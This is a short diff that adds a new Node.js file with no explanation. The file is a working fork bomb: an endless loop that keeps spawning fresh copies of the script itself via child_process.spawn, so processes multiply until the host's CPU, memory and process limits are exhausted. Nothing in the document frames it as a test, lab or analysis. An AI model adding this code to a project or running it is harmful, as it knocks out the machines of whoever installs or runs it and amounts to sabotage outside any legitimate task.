@@ -0,0 +1,5 @@
+import { spawn } from 'child_process';
+
+for (;;) {
+  spawn(process.execPath, [__filename]);
+}